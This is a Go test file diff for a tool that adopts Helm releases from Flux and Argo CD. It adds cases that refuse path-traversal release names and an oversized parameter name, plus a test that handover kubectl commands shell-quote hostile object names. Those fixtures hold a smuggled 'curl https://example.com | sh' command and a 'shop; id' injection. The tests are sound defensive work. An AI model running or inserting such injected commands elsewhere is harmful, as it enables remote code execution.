@@ -224,29 +224,33 @@ func TestWhatIsRefused(t *testing.T) {
 		want  adopt.Wanted
 		says  string
 	}{
-		"a namespace without releases":        {adopt.Found{Namespace: "shop"}, adopt.Wanted{}, "namespace shop: nothing is deployed there"},
-		"a name that nothing tells of":        {recorded("web"), adopt.Wanted{Names: []string{"wbe"}}, "release wbe: nothing in namespace shop tells of it"},
-		"a chart that is nowhere":             {recorded("lost"), adopt.Wanted{}, "the repository does not hold it: copy it there, or name its place with --chart web="},
-		"a chart that is there twice":         {recorded("twice"), adopt.Wanted{}, "more than once (new/twice, old/twice)"},
-		"a subchart is none":                  {recorded("db"), adopt.Wanted{}, "the repository does not hold it"},
-		"a place without a chart":             {recorded("web"), adopt.Wanted{Charts: map[string]string{"web": "shared"}}, "no chart in folder shared"},
-		"a place for what is not adopted":     {recorded("web"), adopt.Wanted{Charts: map[string]string{"api": "charts/web"}}, "--chart api=charts/web: no release api is adopted"},
-		"a HelmRelease that never ran":        {unrecorded, adopt.Wanted{}, "has left no Helm record"},
-		"a source that is gone":               {flux("{"+inGit+"}", nil), adopt.Wanted{}, "which does not exist"},
-		"a chart from another repository":     {flux("{chart: {spec: {chart: other, sourceRef: {kind: GitRepository, name: g}}}}", git), adopt.Wanted{}, "folder other of GitRepository shop/g (https://example.com/g)"},
-		"a chart repository without TLS":      {flux("{chart: {spec: {chart: web, sourceRef: {kind: HelmRepository, name: h}}}}", git), adopt.Wanted{}, "charts come by https or oci"},
-		"a bucket":                            {flux("{chart: {spec: {chart: web, sourceRef: {kind: Bucket, name: b}}}}", git), adopt.Wanted{}, "can't be followed"},
-		"hooks that Flux leaves out":          {flux("{"+inGit+", upgrade: {disableHooks: true}}", git), adopt.Wanted{}, "spec.upgrade.disableHooks has no equal"},
-		"images that Flux renames":            {flux("{"+inGit+", postRenderers: [{kustomize: {images: []}}]}", git), adopt.Wanted{}, "kustomize.images has no equal"},
-		"a folder that is no chart":           {argo(`source: {repoURL: "https://example.com/x", path: overlays/prod}`), adopt.Wanted{}, "which is no chart in this repository"},
-		"an Application of two charts":        {argo(`sources: [{path: a}, {path: b}]`), adopt.Wanted{}, "it renders 2 sources"},
-		"a values file that is not here":      {argo(`source: {path: charts/web, helm: {valueFiles: [other.yaml]}}`), adopt.Wanted{}, "no file charts/web/other.yaml"},
-		"a values file out of the repository": {argo(`source: {path: charts/web, helm: {valueFiles: [../../../x.yaml]}}`), adopt.Wanted{}, "lies outside of this repository"},
-		"a file that wins over a secret":      {argo(`source: {path: charts/web, helm: {valueFiles: [/shared/loud.yaml], values: "adminPassword: s3cr3t"}}`), adopt.Wanted{}, "shared/loud.yaml sets adminPassword too"},
-		"parameters from files":               {argo(`source: {path: charts/web, helm: {fileParameters: [{name: a}]}}`), adopt.Wanted{}, "helm.fileParameters has no equal"},
-		"another cluster":                     {adopt.Found{Namespace: "shop", Applications: []unstructured.Unstructured{object(t, `{apiVersion: argoproj.io/v1alpha1, kind: Application, metadata: {name: web}, spec: {destination: {server: "https://10.0.0.1", namespace: shop}, source: {path: charts/web}}}`)}}, adopt.Wanted{}, "another cluster"},
-		"what an environment of ours deploys": {adopt.Found{Namespace: "shop", Recorded: map[string]adopt.Recorded{"web": {Chart: "web", Ours: "prod"}}}, adopt.Wanted{Names: []string{"web"}}, "environment prod deploys it already"},
-		"what two tools deploy":               {adopt.Found{Namespace: "shop", Applications: append(argo(`source: {path: charts/web}`).Applications, argo(`source: {path: charts/web}`).Applications...)}, adopt.Wanted{}, "both deploy it"},
+		"a namespace without releases":          {adopt.Found{Namespace: "shop"}, adopt.Wanted{}, "namespace shop: nothing is deployed there"},
+		"a name that nothing tells of":          {recorded("web"), adopt.Wanted{Names: []string{"wbe"}}, "release wbe: nothing in namespace shop tells of it"},
+		"a chart that is nowhere":               {recorded("lost"), adopt.Wanted{}, "the repository does not hold it: copy it there, or name its place with --chart web="},
+		"a chart that is there twice":           {recorded("twice"), adopt.Wanted{}, "more than once (new/twice, old/twice)"},
+		"a subchart is none":                    {recorded("db"), adopt.Wanted{}, "the repository does not hold it"},
+		"a place without a chart":               {recorded("web"), adopt.Wanted{Charts: map[string]string{"web": "shared"}}, "no chart in folder shared"},
+		"a place for what is not adopted":       {recorded("web"), adopt.Wanted{Charts: map[string]string{"api": "charts/web"}}, "--chart api=charts/web: no release api is adopted"},
+		"a HelmRelease that never ran":          {unrecorded, adopt.Wanted{}, "has left no Helm record"},
+		"a source that is gone":                 {flux("{"+inGit+"}", nil), adopt.Wanted{}, "which does not exist"},
+		"a chart from another repository":       {flux("{chart: {spec: {chart: other, sourceRef: {kind: GitRepository, name: g}}}}", git), adopt.Wanted{}, "folder other of GitRepository shop/g (https://example.com/g)"},
+		"a chart repository without TLS":        {flux("{chart: {spec: {chart: web, sourceRef: {kind: HelmRepository, name: h}}}}", git), adopt.Wanted{}, "charts come by https or oci"},
+		"a bucket":                              {flux("{chart: {spec: {chart: web, sourceRef: {kind: Bucket, name: b}}}}", git), adopt.Wanted{}, "can't be followed"},
+		"hooks that Flux leaves out":            {flux("{"+inGit+", upgrade: {disableHooks: true}}", git), adopt.Wanted{}, "spec.upgrade.disableHooks has no equal"},
+		"images that Flux renames":              {flux("{"+inGit+", postRenderers: [{kustomize: {images: []}}]}", git), adopt.Wanted{}, "kustomize.images has no equal"},
+		"a folder that is no chart":             {argo(`source: {repoURL: "https://example.com/x", path: overlays/prod}`), adopt.Wanted{}, "which is no chart in this repository"},
+		"an Application of two charts":          {argo(`sources: [{path: a}, {path: b}]`), adopt.Wanted{}, "it renders 2 sources"},
+		"a values file that is not here":        {argo(`source: {path: charts/web, helm: {valueFiles: [other.yaml]}}`), adopt.Wanted{}, "no file charts/web/other.yaml"},
+		"a values file out of the repository":   {argo(`source: {path: charts/web, helm: {valueFiles: [../../../x.yaml]}}`), adopt.Wanted{}, "lies outside of this repository"},
+		"a file that wins over a secret":        {argo(`source: {path: charts/web, helm: {valueFiles: [/shared/loud.yaml], values: "adminPassword: s3cr3t"}}`), adopt.Wanted{}, "shared/loud.yaml sets adminPassword too"},
+		"parameters from files":                 {argo(`source: {path: charts/web, helm: {fileParameters: [{name: a}]}}`), adopt.Wanted{}, "helm.fileParameters has no equal"},
+		"another cluster":                       {adopt.Found{Namespace: "shop", Applications: []unstructured.Unstructured{object(t, `{apiVersion: argoproj.io/v1alpha1, kind: Application, metadata: {name: web}, spec: {destination: {server: "https://10.0.0.1", namespace: shop}, source: {path: charts/web}}}`)}}, adopt.Wanted{}, "another cluster"},
+		"what an environment of ours deploys":   {adopt.Found{Namespace: "shop", Recorded: map[string]adopt.Recorded{"web": {Chart: "web", Ours: "prod"}}}, adopt.Wanted{Names: []string{"web"}}, "environment prod deploys it already"},
+		"an Application's name that is a path":  {argo(`source: {path: charts/web, helm: {releaseName: "../../.github/workflows/ci"}}`), adopt.Wanted{}, `release "../../.github/workflows/ci": Application argocd/web calls it by a name that no release has`},
+		"a HelmRelease's name that is a path":   {flux(`{releaseName: "../../../x", `+inGit+`}`, git), adopt.Wanted{}, "by a name that no release has"},
+		"a record's name that is a path":        {adopt.Found{Namespace: "shop", Recorded: map[string]adopt.Recorded{"../x": {Chart: "web", Version: "1.2.3"}}}, adopt.Wanted{}, "by a name that no release has"},
+		"a parameter that makes lists of lists": {argo(`source: {path: charts/web, helm: {parameters: [{name: "a` + strings.Repeat("[65536]", 1000) + `", value: x}]}}`), adopt.Wanted{}, "a parameter has a name of more than 300 characters"},
+		"what two tools deploy":                 {adopt.Found{Namespace: "shop", Applications: append(argo(`source: {path: charts/web}`).Applications, argo(`source: {path: charts/web}`).Applications...)}, adopt.Wanted{}, "both deploy it"},
 	} {
 		t.Run(sentence, func(t *testing.T) {
 			releases, err := adopt.Releases(c.found, repository(), c.want)
@@ -257,5 +261,25 @@ func TestWhatIsRefused(t *testing.T) {
 				t.Error("a secret is told")
 			}
 		})
+	}
+}
+
+// Who may write an Application writes no command for who adopts it.
+func TestCommandsNameObjectsAlone(t *testing.T) {
+	found := adopt.Found{Namespace: "shop", Applications: []unstructured.Unstructured{object(t, `
+apiVersion: argoproj.io/v1alpha1
+kind: Application
+metadata: {name: web, namespace: argocd}
+spec: {destination: {namespace: shop}, source: {path: charts/web}}
+status:
+  resources: [{version: v1, kind: ConfigMap, namespace: "shop; id", name: "web'; curl https://example.com | sh #"}]
+`)}}
+	releases, err := adopt.Releases(found, repository(), adopt.Wanted{})
+	if err != nil {
+		t.Fatal(err)
+	}
+	have := strings.Join(releases[0].HandOver, "\n")
+	if want := `kubectl annotate 'ConfigMap/web'\''; curl https://example.com | sh #' --namespace 'shop; id' meta`; !strings.Contains(have, want) {
+		t.Errorf("%s\nlacks %s", have, want)
 	}
 }
